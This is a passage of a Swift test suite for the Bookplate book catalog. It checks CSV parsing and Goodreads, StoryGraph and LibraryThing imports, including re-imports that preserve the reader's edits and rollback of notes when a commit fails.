import Foundation
import GRDB
import Synchronization
import Testing

@testable import BookplateCatalog
@testable import BookplateCore
@testable import BookplateImport
@testable import BookplateKit
@testable import BookplateLibrary
@testable import BookplateMustache
@testable import BookplateSite

@Suite struct CSVParserTests {
    @Test func readsQuotesLineBreaksBOMAndCRLF() {
        let text = "\u{FEFF}a,b,c\r\n1,\"two, \"\"quoted\"\"\",\"line\r\nbreak\"\r\n\r\n4,,6\r\n"
        let records = CSVParser().parse(Array(text.utf8))
        #expect(
            records.map(\.fields) == [["a", "b", "c"], ["1", "two, \"quoted\"", "line\r\nbreak"], ["4", "", "6"]])
        #expect(records.map(\.line) == [1, 2, 5])
    }

    @Test func marksRowsWithBytesThatAreNotUTF8() {
        let records = CSVParser().parse(
            Array("a,b\n".utf8) + [0x43, 0x61, 0x66, 0xE9, 0x2C, 0x78, 0x0A] + Array("c,d\n".utf8))
        #expect(records.map(\.hasBadBytes) == [false, true, false])
        #expect(records[2].fields == ["c", "d"])
    }

    @Test func readsTabs() {
        #expect(CSVParser(delimiter: UInt8(ascii: "\t")).parse(Array("a\tb, c\n".utf8)).first?.fields == ["a", "b, c"])
    }

    /// Files are read a few megabytes at a time. Whatever the pieces, and wherever they end (in a
    /// quoted field, between CR and LF, inside a character or the byte-order mark), the rows, their
    /// lines and the lines skipped are those of the file read whole.
    @Test func aFileReadInPiecesGivesTheRowsOfTheWholeFile() throws {
        var random = SeededRandom(seed: 4180)
        let pieces = [
            "a", "é", ",", "\"", "\"\"", "\r\n", "\n", "\r", " ", "\t", "\u{FEFF}", "=1", "\"x,\ny\"", "\u{1F4DA}",
        ]
        for trial in 0..<300 {
            var bytes = Array("\u{FEFF}Title,Author,Shelf\r\n".utf8)
            if trial % 3 == 0 { bytes.removeFirst(3) }
            for _ in 0..<Int.random(in: 0...60, using: &random) {
                bytes += Array(pieces[Int.random(in: 0..<pieces.count, using: &random)].utf8)
            }
            if trial % 5 == 0 { bytes.append(0xE9) }  // not UTF-8
            let data = Data(bytes)
            let whole = try Self.rows(.bytes(data))
            for size in [1, 2, 3, 5, Int.random(in: 1...40, using: &random)] {
                var offset = 0
                let inPieces = DelimitedText { _ in
                    defer { offset = min(data.count, offset + size) }
                    return data[offset..<min(data.count, offset + size)]
                }
                let read = try Self.rows(inPieces)
                #expect(read.rows == whole.rows, "trial \(trial), pieces of \(size)")
                #expect(read.skipped == whole.skipped, "trial \(trial), pieces of \(size)")
            }
        }
    }

    static func rows(_ text: DelimitedText) throws -> (rows: [String], skipped: [SkippedRow]) {
        var rows: [String] = []
        let skipped = try CSVRow.read(text, delimiter: ",", source: .goodreads, required: ["Title"], batchSize: 3) {
            batch in
            rows += batch.map { row in
                "\(row.line): "
                    + row.cells.sorted { $0.key < $1.key }.map { "\($0.key)=\($0.value)" }.joined(separator: "|")
            }
        }
        return (rows, skipped)
    }
}

@Suite struct GoodreadsImportTests {
    /// The quirks file as the reader exported it again, `old` changed to `new` in its bytes (the
    /// file holds a row that is not UTF-8 on purpose).
    func quirksFile(changing old: String, to new: String) throws -> URL {
        let changed = try TestPaths.temporaryFolder("reimport").appendingPathComponent("goodreads.csv")
        var bytes = try Data(contentsOf: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"))
        let range = try #require(bytes.range(of: Data(old.utf8)))
        bytes.replaceSubrange(range, with: Data(new.utf8))
        try bytes.write(to: changed)
        return changed
    }

    func importQuirks(dryRun: Bool = false) throws -> (TemporaryShelf, ShelfImport.Report) {
        let shelf = try TemporaryShelf()
        let report = try shelf.importer
            .run(
                file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads,
                dryRun: dryRun)
        return (shelf, report)
    }

    @Test func readsTheExportAsItReallyIs() throws {
        let (shelf, report) = try importQuirks()
        #expect(report.summary.added.count == 7)
        // Line numbers count the line break inside row 4's quoted title. Only a row without a
        // title is lost; a bad date or bad bytes cost the field or the character, not the row.
        #expect(report.summary.skipped == [SkippedRow(line: 6, reason: "no title")])
        #expect(
            report.summary.warnings == [
                RowWarning(line: 7, message: "Date Read '2024/02/30' is not a date: imported without it"),
                RowWarning(line: 9, message: "Title held bytes that are not UTF-8: each became \u{FFFD}"),
            ])
        let impossible = try shelf.library.findBook(matching: "impossible day")
        #expect(impossible.book.status == .read && impossible.book.finishedDate == nil)
        #expect(impossible.book.rating?.stars == 3 && impossible.authors.map(\.name) == ["Some Author"])
        let stories = try shelf.library.findBook(matching: "stories")
        #expect(stories.book.title == "Caf\u{FFFD} Stories" && stories.authors.map(\.name) == ["Jane Doe"])
        let dune = try shelf.library.findBook(matching: "9780441172719")
        // The series leaves the title (and the slug) for the book's series.
        #expect(dune.book.title == "Dune" && dune.book.slug == "dune")
        #expect(dune.series.map { "\($0.series.name) #\($0.position?.text ?? "")" } == ["Dune #1"])
        #expect(dune.book.isbn10 == "0441172717" && dune.book.status == .read && dune.book.rating?.stars == 5)
        #expect(dune.book.finishedDate?.description == "2024-03-15" && dune.book.publishedDate?.description == "1990")
        #expect(dune.book.pageCount == 604 && dune.book.publisher == "Ace Books")
        // Read Count 2 with one Date Read: an undated read before the dated one.
        #expect(
            dune.reads == [
                ReadRecord(outcome: .finished), ReadRecord(finished: try PartialDate(parsing: "2024-03-15")),
            ])
        #expect(dune.timesRead == 2 && dune.book.privateNotes == "Lent to Sam, never returned")
        #expect(dune.shelves.map(\.name) == ["favourites", "sci-fi"])
        // The start of the day where the reader is (the shelf's clock is in UTC).
        #expect(dune.book.addedAt == Date(timeIntervalSince1970: 1_672_617_600))  // 2023-01-02T00:00:00Z
        let note = try NoteStore(folder: shelf.paths.notes).note(forSlug: dune.book.slug)
        // Goodreads' HTML is Markdown in the note (its raw HTML was left out of the page).
        #expect(note == "Spice.\n\nThe \"desert\" is **alive**.\n")

        let omens = try shelf.library.findBook(matching: "good omens")
        #expect(omens.book.rating == nil && omens.book.status == .toRead && omens.book.isbn13 == nil)
        #expect(omens.authors.map(\.name) == ["Terry Pratchett", "Neil Gaiman"])

        let broken = try shelf.library.findBook(matching: "with a line break")
        #expect(broken.book.title == "A Title With A Line Break")
        #expect(broken.book.status == .abandoned)
        #expect(broken.shelves.map(\.name) == ["classics"])

        let reading = try shelf.library.findBook(matching: "currently on it")
        #expect(reading.book.status == .reading && reading.shelves.map(\.name) == ["book club"])
    }

    @Test func reimportingUpdatesAndNeverDuplicates() throws {
        let (shelf, _) = try importQuirks()
        try shelf.library.editBook(slug: "good-omens", BookEdit(rating: .some(try Rating(3))))
        let again = try shelf.importer
            .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        #expect(again.summary.added.isEmpty)
        #expect(again.summary.unchanged == 7)
        #expect(again.notesWritten == 0)
        #expect(try shelf.library.books().count == 7)
    }

    /// Importing the same Goodreads export again put back the rating the reader had changed or
    /// cleared in Bookplate, and a book the reader had started in Bookplate went back to "to read"
    /// beside its read going on (found by an exploratory session). The file's values are taken
    /// where the file changed them since its last import, and only there.
    @Test func importingTheSameFileAgainLeavesWhatTheReaderChangedSince() throws {
        let (shelf, _) = try importQuirks()
        let file = TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv")
        let started = try PartialDate(parsing: "2026-11-01")
        try shelf.library.editBook(slug: "good-omens", BookEdit(status: .reading, startedDate: .some(started)))
        var edit = BookEdit(rating: .some(try Rating(quarters: 14)))
        edit.owned = .some(false)
        try shelf.library.editBook(slug: "dune", edit)
        try shelf.library.editBook(slug: "currently-on-it", BookEdit(rating: .some(nil)))
        let importer = shelf.importer
        let again = try importer.run(file: file, as: .goodreads)
        #expect(again.summary.added.isEmpty)
        let omens = try shelf.library.findBook(matching: "good omens")
        #expect(omens.book.status == .reading && omens.book.startedDate == started)
        #expect(omens.reads.last?.outcome == .reading)
        let dune = try shelf.library.findBook(matching: "dune")
        #expect(dune.book.rating?.quarters == 14 && dune.book.owned == false && dune.book.status == .read)
        #expect(try shelf.library.findBook(matching: "currently on it").book.rating == nil)

        // A file that changed a value since is taken: Dune rated 4 in Goodreads now.
        let changed = try quirksFile(
            changing: "\"=\"\"9780441172719\"\"\",5,", to: "\"=\"\"9780441172719\"\"\",4,")
        _ = try importer.run(file: changed, as: .goodreads)
        let rerated = try shelf.library.findBook(matching: "dune")
        #expect(rerated.book.rating?.stars == 4 && rerated.book.owned == false)
        #expect(try shelf.library.findBook(matching: "good omens").book.status == .reading)
    }

    /// A read corrected or removed in Bookplate came back with the same file imported again, and
    /// a book read once said "Read 2 times" (found by an exploratory session): the file's reads
    /// are taken only when they differ from what the same file gave last time.
    @Test func importingTheSameFileAgainLeavesTheReadsTheReaderChanged() throws {
        let (shelf, _) = try importQuirks()
        let file = TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv")
        let corrected = try PartialDate(parsing: "2024-03-16")
        _ = try shelf.library.editRead(ofBook: "dune", number: 2, ReadEdit(finished: .some(corrected)))
        _ = try shelf.library.removeRead(ofBook: "dune", number: 1)
        let importer = shelf.importer
        let again = try importer.run(file: file, as: .goodreads)
        #expect(again.summary.rows.first { $0.slug == "dune" }?.action == .unchanged)
        #expect(try shelf.library.reads(ofBook: "dune") == [ReadRecord(finished: corrected)])

        // A file that tells of another read since is taken: Dune read again, on 10 January 2025.
        let changed = try quirksFile(changing: ",2024/03/15,2023/01/02,", to: ",2025/01/10,2023/01/02,")
        _ = try importer.run(file: changed, as: .goodreads)
        let reread = try shelf.library.findBook(matching: "dune")
        #expect(reread.reads.compactMap(\.finished).map(\.description) == ["2024-03-16", "2025-01-10"])
        #expect(reread.book.finishedDate?.description == "2025-01-10")
    }

    /// A file that told of a new read sent all its reads to be merged, and the read the reader
    /// had corrected came back beside the correction (found by a review): what the file told of
    /// before is old news, and only its new reads are taken in.
    @Test func aNewReadInTheFileBringsBackNoReadTheReaderChanged() throws {
        let shelf = try TemporaryShelf()
        let importer = shelf.importer
        let folder = try TestPaths.temporaryFolder("reimport-storygraph")
        func importing(_ dates: String, count: Int) throws {
            let file = folder.appendingPathComponent("storygraph-\(count).csv")
            try Data(
                "Title,Authors,Read Status,Dates Read,Read Count\nKindred,Octavia E. Butler,read,\"\(dates)\",\(count)\n"
                    .utf8
            ).write(to: file)
            _ = try importer.run(file: file, as: .storygraph)
        }
        func dates(_ slug: String) throws -> [String] {
            try shelf.library.reads(ofBook: slug).map {
                "\($0.started?.description ?? "")→\($0.finished?.description ?? "")"
            }
        }
        try importing("2024/03/01-2024/04/01", count: 1)
        _ = try shelf.library.editRead(
            ofBook: "kindred", number: 1,
            ReadEdit(
                started: .some(try PartialDate(parsing: "2024-03-02")),
                finished: .some(try PartialDate(parsing: "2024-04-02"))))
        try importing("2024/03/01-2024/04/01, 2025/06/01-2025/06/20", count: 2)
        #expect(try dates("kindred") == ["2024-03-02→2024-04-02", "2025-06-01→2025-06-20"])
        // A read removed stays removed when the file tells of another.
        _ = try shelf.library.removeRead(ofBook: "kindred", number: 1)
        try importing("2024/03/01-2024/04/01, 2025/06/01-2025/06/20, 2026/01/02-2026/01/20", count: 3)
        #expect(try dates("kindred") == ["2025-06-01→2025-06-20", "2026-01-02→2026-01-20"])
    }

    /// Importing the same export again brought back a book the reader had removed, and `restore`
    /// of it was then refused (found by an exploratory session): a removed book the file still
    /// lists is left out, and named, until the reader restores it.
    @Test func aBookTheReaderRemovedStaysRemoved() throws {
        let (shelf, _) = try importQuirks()
        let removal = BookRemoval(library: shelf.library, paths: shelf.paths)
        _ = try removal.remove(slug: "dune")
        let file = TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv")
        let importer = shelf.importer
        for dryRun in [true, false] {
            let again = try importer.run(file: file, as: .goodreads, dryRun: dryRun)
            #expect(
                again.summary.removedByReader == [
                    RemovedRow(slug: "dune", title: "Dune", authors: ["Frank Herbert"], restoredBySlug: true)
                ] && again.summary.added.isEmpty)
            #expect(again.summary.rows.first { $0.slug == "dune" }?.action == .removed)
            #expect(again.notesWritten == 0)
        }
        #expect(throws: LibraryError.self) { try shelf.library.findBook(matching: "dune") }
        #expect(!FileManager.default.fileExists(atPath: shelf.paths.notes.appendingPathComponent("dune.md").path))
        // Restored, it is the file's book again.
        _ = try removal.restore(try shelf.library.findRemovedBook(matching: "dune"))
        let restored = try importer.run(file: file, as: .goodreads)
        #expect(restored.summary.removedByReader.isEmpty)
        #expect(restored.summary.rows.first { $0.slug == "dune" }?.action == .unchanged)
    }

    /// A removed book left out another edition of its title and author, with its own ISBN and id,
    /// and a slug taken since named a book `restore SLUG` could not bring back (found by a
    /// review): a removed copy is matched as a book on the shelf is, and says when its slug is
    /// no longer the way to it.
    @Test func aRemovedBookIsMatchedAsABookOnTheShelfIs() throws {
        let shelf = try TemporaryShelf()
        let importer = shelf.importer
        let folder = try TestPaths.temporaryFolder("removed-editions")
        func importing(_ rows: String, named name: String) throws -> ImportSummary {
            let file = folder.appendingPathComponent(name)
            try Data(("Book Id,Title,Author,ISBN13\n" + rows).utf8).write(to: file)
            return try importer.run(file: file, as: .goodreads).summary
        }
        _ = try importing("111,Collected Stories,Jane Smith,=\"9780441172719\"\n", named: "first.csv")
        _ = try BookRemoval(library: shelf.library, paths: shelf.paths).remove(slug: "collected-stories")
        let other = try importing("222,Collected Stories,Jane Smith,=\"9780143111580\"\n", named: "other.csv")
        #expect(other.added.count == 1 && other.removedByReader.isEmpty)
        // The slug is the other edition's now: the removed one is named by title and author.
        let same = try importing("111,Collected Stories,Jane Smith,=\"9780441172719\"\n", named: "first.csv")
        #expect(same.removedByReader.map(\.restoredBySlug) == [false] && same.added.isEmpty)
    }

    /// A book not owned came back from the CSV export as not known: Goodreads' Owned Copies is
    /// 0 for both (found by an exploratory session). The export writes StoryGraph's Owned? beside
    /// it, and an import reads it when it is there.
    @Test func ownedNoComesBackFromTheCSVExport() throws {
        let shelf = try TemporaryShelf()
        for (title, owned) in [("Mine", true), ("Borrowed", false)] {
            var book = NewBook(title: title, authors: ["A Writer"])
            book.owned = owned
            try shelf.library.addBook(book)
        }
        try shelf.library.addBook(NewBook(title: "Unknown", authors: ["A Writer"]))
        let file = try TestPaths.temporaryFolder("owned").appendingPathComponent("export.csv")
        try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).goodreadsCSV()
            .write(to: file)
        let fresh = try TemporaryShelf()
        _ = try fresh.importer
            .run(file: file, as: .goodreads)
        #expect(try fresh.library.findBook(matching: "mine").book.owned == true)
        #expect(try fresh.library.findBook(matching: "borrowed").book.owned == false)
        #expect(try fresh.library.findBook(matching: "unknown").book.owned == nil)
    }

    /// An audiobook's length came back from the CSV export as nothing (the book page lost
    /// "11 h 30 min"): no column held it (found by an exploratory session). The export adds one.
    @Test func anAudiobooksLengthComesBackFromTheCSVExport() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(NewBook(title: "Heard", authors: ["A Writer"], format: .audiobook, audioMinutes: 690))
        let file = try TestPaths.temporaryFolder("audio").appendingPathComponent("export.csv")
        try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).goodreadsCSV()
            .write(to: file)
        let fresh = try TemporaryShelf()
        _ = try fresh.importer
            .run(file: file, as: .goodreads)
        let book = try fresh.library.findBook(matching: "heard").book
        #expect(book.format == .audiobook && book.audioMinutes == 690)
    }

    /// Goodreads writes a contributor's role after the name: "Edith Grossman (Translator)" was
    /// kept as an author of that name, filed as "(Translator), Edith Grossman" and another person
    /// than Edith Grossman (found by an exploratory session). A translator, editor or illustrator
    /// beside the author is left out with a warning, as LibraryThing's are; an author's role
    /// ("Goodreads Author") is taken off, and the first author stays whatever the role.
    @Test func aContributorsRoleIsNoPartOfTheirNameAndOnlyAuthorsAreAuthors() throws {
        let (shelf, report) = try importedGoodreads(
            """
            Title,Author,Additional Authors,Exclusive Shelf
            Don Quixote,Miguel de Cervantes Saavedra,"Edith Grossman (Translator), Harold Bloom (Introduction)",read
            Good Omens,Terry Pratchett,Neil Gaiman (Goodreads Author),to-read
            The Best American Short Stories,Lorrie Moore (Editor),Heidi Pitlor (Series Editor),to-read
            Translated,Edith Grossman,,to-read

            """)
        #expect(
            report.summary.warnings == [
                RowWarning(
                    line: 2,
                    message:
                        "Additional Authors 'Edith Grossman (Translator)' is credited as Translator, not as an author: left out"
                ),
                RowWarning(
                    line: 2,
                    message:
                        "Additional Authors 'Harold Bloom (Introduction)' is credited as Introduction, not as an author: left out"
                ),
                RowWarning(
                    line: 4,
                    message:
                        "Additional Authors 'Heidi Pitlor (Series Editor)' is credited as Series Editor, not as an author: left out"
                ),
            ])
        #expect(try shelf.library.findBook(matching: "quixote").authors.map(\.name) == ["Miguel de Cervantes Saavedra"])
        #expect(
            try shelf.library.findBook(matching: "omens").authors.map(\.name) == ["Terry Pratchett", "Neil Gaiman"])
        let anthology = try shelf.library.findBook(matching: "short stories").authors
        #expect(anthology.map(\.name) == ["Lorrie Moore"] && anthology.map(\.sortName) == ["Moore, Lorrie"])
        #expect(
            try shelf.library.snapshot().authors.map(\.name).sorted() == [
                "Edith Grossman", "Lorrie Moore", "Miguel de Cervantes Saavedra", "Neil Gaiman", "Terry Pratchett",
            ])
    }

    /// Only a role is a role: a co-author whose name ends in other parentheses, another script's
    /// spelling of it, a real name or dates, was left out as "credited as 刘慈欣" (found by a review).
    @Test func aNameEndingInParenthesesThatNameNoRoleIsACoAuthor() throws {
        let (shelf, report) = try importedGoodreads(
            """
            Title,Author,Additional Authors,Exclusive Shelf
            The Three-Body Problem,Ken Liu,"Cixin Liu (刘慈欣), Jane Smith (1920-2001)",read
            Letters,Mark Twain (Samuel Clemens),Edith Grossman (Editor/Translator),to-read

            """)
        #expect(
            report.summary.warnings == [
                RowWarning(
                    line: 3,
                    message:
                        "Additional Authors 'Edith Grossman (Editor/Translator)' is credited as Editor/Translator, not as an author: left out"
                )
            ])
        #expect(
            try shelf.library.findBook(matching: "three-body").authors.map(\.name) == [
                "Ken Liu", "Cixin Liu (刘慈欣)", "Jane Smith (1920-2001)",
            ])
        #expect(try shelf.library.findBook(matching: "letters").authors.map(\.name) == ["Mark Twain (Samuel Clemens)"])
    }

    /// A name in capitals or in small letters is the same author as the same name otherwise
    /// cased: an import of "EL JAMES" beside "EL James" made two authors (found by a review).
    @Test func anAuthorsCaseMakesNoOtherAuthorOnImport() throws {
        let (shelf, report) = try importedGoodreads(
            """
            Title,Author,Additional Authors,Exclusive Shelf
            Fifty Shades of Grey,EL James,,read
            Fifty Shades Darker,EL JAMES,,read
            Fifty Shades Freed,el james,,read
            The Vegetarian,HAN Kang,,read
            Human Acts,Han Kang,,read

            """)
        #expect(report.summary.added.count == 5)
        let authors = try shelf.library.snapshot().authors.map(\.name)
        #expect(authors.sorted() == ["EL James", "HAN Kang"])
    }

    /// "Saga (Saga, #1; Saga, #2)" came in at #1 without a word of #2 (found by a review): a book
    /// has one place in a series, and a second is said and left out.
    @Test func aSecondPlaceInOneSeriesIsSaidAndLeftOut() throws {
        let (shelf, report) = try importedGoodreads(
            """
            Title,Author,Additional Authors,Exclusive Shelf
            "Saga, Volume One (Saga, #1; SAGA, #2; Saga, #1)",Brian K. Vaughan,,read

            """)
        #expect(
            report.summary.warnings == [
                RowWarning(line: 2, message: "series 'Saga' is given two places, #1 and #2: imported at #1")
            ])
        let book = try shelf.library.findBook(matching: "saga")
        #expect(book.series.map(\.series.name) == ["Saga"] && book.series.map(\.position?.text) == ["1"])
    }

    /// A comic's writer is its author: "Ari Folman (Writer)" beside the illustrator Goodreads
    /// lists first was left out as "credited as Writer, not as an author", and the book had its
    /// illustrator alone (found by a review).
    @Test func aWriterCreditedSoIsAnAuthor() throws {
        let (shelf, report) = try importedGoodreads(
            """
            Title,Author,Additional Authors,Exclusive Shelf
            Anne Frank's Diary,David Polonsky (Illustrator),"Ari Folman (Writer), Hope Larson (Script), Jo Inker (Inker)",read

            """)
        #expect(
            report.summary.warnings.map(\.message) == [
                "Additional Authors 'Jo Inker (Inker)' is credited as Inker, not as an author: left out"
            ])
        #expect(
            try shelf.library.findBook(matching: "anne frank").authors.map(\.name) == [
                "David Polonsky", "Ari Folman", "Hope Larson",
            ])
    }

    /// A new shelf with `csv` imported into it as Goodreads' export.
    private func importedGoodreads(_ csv: String) throws -> (TemporaryShelf, ShelfImport.Report) {
        let file = try TestPaths.temporaryFolder("goodreads-roles").appendingPathComponent("goodreads.csv")
        try Data(csv.utf8).write(to: file)
        let shelf = try TemporaryShelf()
        return (shelf, try shelf.importer.run(file: file, as: .goodreads))
    }

    @Test func aDryRunChangesNothing() throws {
        let (shelf, report) = try importQuirks(dryRun: true)
        #expect(report.summary.added.count == 7 && report.notesWritten == 1)
        #expect(
            report.summary.rows.map { "\($0.line) \($0.action) \($0.slug)" } == [
                "2 add dune", "3 add good-omens", "4 add a-title-with-a-line-break", "7 add impossible-day",
                "8 add currently-on-it", "9 add caf-stories", "10 add binti-home",
            ])
        #expect(try shelf.library.books().isEmpty)
        #expect(try NoteStore(folder: shelf.paths.notes).noteFiles().isEmpty)
    }

    @Test func aFailurePartWayChangesNothing() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.database.write { db in
            try db.execute(
                sql: """
                    CREATE TRIGGER fail_on_omens BEFORE INSERT ON book WHEN NEW.title = 'Good Omens'
                    BEGIN SELECT RAISE(ABORT, 'the disk is on fire'); END
                    """)
        }
        #expect(throws: LibraryError.self) {
            try shelf.importer
                .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        }
        #expect(try shelf.library.books().isEmpty)
        #expect(try NoteStore(folder: shelf.paths.notes).noteFiles().isEmpty)
    }

    /// Notes are written beside their places while the library's transaction is open: a failure
    /// after some were written removes them, and no note appears for a book the library lacks.
    @Test func aFailureAfterNotesWereWrittenLeavesNoNoteAndNoWorkingFile() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.database.write { db in
            try db.execute(
                sql: """
                    CREATE TRIGGER fail_on_imported_note BEFORE INSERT ON importedNote
                    BEGIN SELECT RAISE(ABORT, 'the disk is on fire'); END
                    """)
        }
        #expect(throws: LibraryError.self) {
            try shelf.importer
                .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        }
        #expect(try shelf.library.books().isEmpty)
        #expect((try? FileManager.default.contentsOfDirectory(atPath: shelf.paths.notes.path)) ?? [] == [])
    }

    /// The notes are in place before the library commits, and taken out again when the commit
    /// fails: renamed after it, as they were, an import killed between the two left the books
    /// with most of their reviews gone (found by an exploratory session).
    @Test func theNotesAreInPlaceBeforeTheLibraryCommits() throws {
        let shelf = try TemporaryShelf()
        let refusal = CommitRefusal(notes: NoteStore(folder: shelf.paths.notes))
        shelf.library.database.add(transactionObserver: refusal, extent: .nextTransaction)
        #expect(throws: LibraryError.self) {
            try shelf.importer
                .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        }
        #expect(refusal.notesAtCommit?.isEmpty == false)
        #expect(try shelf.library.books().isEmpty)
        #expect((try? FileManager.default.contentsOfDirectory(atPath: shelf.paths.notes.path)) ?? [] == [])
        // Without the refusal, the same notes are there once the import is done.
        let report = try shelf.importer
            .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        #expect(try NoteStore(folder: shelf.paths.notes).noteFiles().map(\.slug) == refusal.notesAtCommit)
        #expect(report.notesWritten == refusal.notesAtCommit?.count)
    }

    /// A note the reader saves while the import runs, after its review was staged, is theirs: it
    /// stays, whether the import commits or not (renamed over it, then deleted with the failed
    /// commit's notes: found by a review).
    @Test(arguments: [false, true])
    func aNoteSavedWhileTheImportRunsIsKept(commitFails: Bool) throws {
        let shelf = try TemporaryShelf()
        let observer = NoteSavedMeanwhile(
            note: shelf.paths.notes.appendingPathComponent("dune.md"), refuse: commitFails)
        shelf.library.database.add(transactionObserver: observer, extent: .nextTransaction)
        let run = {
            try shelf.importer
                .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        }
        if commitFails {
            #expect(throws: LibraryError.self) { _ = try run() }
        } else {
            #expect(try run().notesKept == 1)
        }
        #expect(try NoteStore(folder: shelf.paths.notes).note(forSlug: "dune") == "Mine.\n")
    }

    /// Saves the reader's note once the import has recorded its reviews (they are staged by
    /// then), and refuses the commit when told to.
    private final class NoteSavedMeanwhile: TransactionObserver, @unchecked Sendable {
        let note: URL
        let refuse: Bool
        var saved = false

        init(note: URL, refuse: Bool) {
            self.note = note
            self.refuse = refuse
        }

        func observes(eventsOfKind eventKind: DatabaseEventKind) -> Bool { eventKind.tableName == "importedNote" }
        func databaseDidChange(with event: DatabaseEvent) {
            guard !saved else { return }
            saved = true
            try? Data("Mine.\n".utf8).write(to: note)
        }
        func databaseWillCommit() throws {
            if refuse { throw DatabaseError(resultCode: .SQLITE_ABORT, message: "the disk is on fire") }
        }
        func databaseDidCommit(_ db: Database) {}
        func databaseDidRollback(_ db: Database) {}
    }

    /// Notes the folder holds as the library is about to commit; then refuses the commit.
    private final class CommitRefusal: TransactionObserver, @unchecked Sendable {
        let notes: NoteStore
        var notesAtCommit: [String]?

        init(notes: NoteStore) { self.notes = notes }

        func observes(eventsOfKind eventKind: DatabaseEventKind) -> Bool { true }
        func databaseDidChange(with event: DatabaseEvent) {}
        func databaseWillCommit() throws {
            notesAtCommit = try notes.noteFiles().map(\.slug)
            throw DatabaseError(resultCode: .SQLITE_ABORT, message: "the disk is on fire")
        }
        func databaseDidCommit(_ db: Database) {}
        func databaseDidRollback(_ db: Database) {}
    }

    @Test func aNoteTheReaderAlreadyHasIsKept() throws {
        let shelf = try TemporaryShelf()
        try shelf.writeNote("My own words.\n", slug: "dune")
        let report = try shelf.importer
            .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        #expect(report.notesKept == 1 && report.notesWritten == 0)
        #expect(try NoteStore(folder: shelf.paths.notes).note(forSlug: "dune") == "My own words.\n")
    }

    @Test func privateNotesAreNeverPublished() throws {
        let (shelf, _) = try importQuirks()
        try shelf.build(settings: FixtureShelf.settings)
        for (path, data) in try TemporaryShelf.snapshot(of: shelf.paths.site) {
            #expect(!String(decoding: data, as: UTF8.self).contains("never returned"), "\(path)")
        }
    }

    @Test func aFileOfAnotherKindIsRefused() throws {
        let shelf = try TemporaryShelf()
        let importer = shelf.importer
        #expect(throws: ImportError.missingColumns(source: .goodreads, columns: ["Author"])) {
            try importer.run(file: TestPaths.fixtures.appendingPathComponent("imports/storygraph.csv"), as: .goodreads)
        }
    }
}

@Suite struct OtherImportTests {
    @Test func storyGraph() throws {
        let shelf = try TemporaryShelf()
        let report = try shelf.importer
            .run(file: TestPaths.fixtures.appendingPathComponent("imports/storygraph.csv"), as: .storygraph)
        #expect(report.summary.added.count == 4 && report.summary.skipped.isEmpty)
        let piranesi = try shelf.library.findBook(matching: "piranesi")
        // StoryGraph's 4.5 stays 4.5.
        #expect(piranesi.book.rating?.text == "4.5" && piranesi.book.status == .read)
        #expect(
            piranesi.book.startedDate?.description == "2023-02-10"
                && piranesi.book.finishedDate?.description == "2023-02-20")
        #expect(piranesi.shelves.map(\.name) == ["fantasy", "favourites"])
        #expect(try shelf.library.findBook(matching: "dispossessed").book.status == .reading)
        #expect(try shelf.library.findBook(matching: "unfinished").book.status == .abandoned)
    }

    @Test func libraryThing() throws {
        let shelf = try TemporaryShelf()
        let report = try shelf.importer
            .run(file: TestPaths.fixtures.appendingPathComponent("imports/librarything.tsv"), as: .librarything)
        #expect(report.summary.added.count == 2)
        let kindred = try shelf.library.findBook(matching: "kindred")
        #expect(kindred.authors.map(\.name) == ["Octavia E. Butler"])
        #expect(kindred.book.publisher == "Beacon Press" && kindred.book.isbn13 == "9780807083697")
        #expect(kindred.book.status == .read && kindred.book.startedDate?.description == "2024-01-02")
        #expect(
            kindred.book.privateNotes == "Signed copy" && kindred.shelves.map(\.name) == ["classics", "time travel"])
        let omens = try shelf.library.findBook(matching: "good omens")
        #expect(omens.authors.map(\.name) == ["Terry Pratchett", "Neil Gaiman"] && omens.book.status == .toRead)
    }

    /// A translator or an editor listed among LibraryThing's secondary authors became an author of
    /// the book, and its Media was dropped. Found by an exploratory session.
    @Test func libraryThingsTranslatorsAreNoAuthorsAndItsMediaIsTheFormat() throws {
        let text = """
            Book Id\tTitle\tPrimary Author\tSecondary Author\tSecondary Author Roles\tMedia
            1\tThe Master and Margarita\tBulgakov, Mikhail\tPevear, Richard|Volokhonsky, Larissa\tTranslator|Translator\tEbook
            2\tGood Omens\tPratchett, Terry\tGaiman, Neil|Smith, Ed\tAuthor|Editor\tPaperback
            3\tNo Roles\tWriter, A\tWriter, B\t\t

            """
        let file = try TestPaths.temporaryFolder("librarything").appendingPathComponent("roles.tsv")
        try Data(text.utf8).write(to: file)
        let shelf = try TemporaryShelf()
        _ = try shelf.importer
            .run(file: file, as: .librarything)
        let master = try shelf.library.findBook(matching: "the master and margarita")
        #expect(master.authors.map(\.name) == ["Mikhail Bulgakov"] && master.book.format == .ebook)
        let omens = try shelf.library.findBook(matching: "good omens")
        #expect(omens.authors.map(\.name) == ["Terry Pratchett", "Neil Gaiman"] && omens.book.format == .paperback)
        #expect(try shelf.library.findBook(matching: "no roles").authors.map(\.name) == ["A Writer", "B Writer"])
    }

    /// A LibraryThing book with a Date Started and no Date Read, in "Your library" alone, came in
    /// to read with its start dropped and no warning (found by an exploratory session): it is
    /// being read; in "To read", it stays to read and its start is named as left out.
    @Test func aLibraryThingBookBegunAndNotFinishedIsBeingRead() throws {
        let text = """
            Book Id\tTitle\tPrimary Author\tDate Started\tDate Read\tCollections
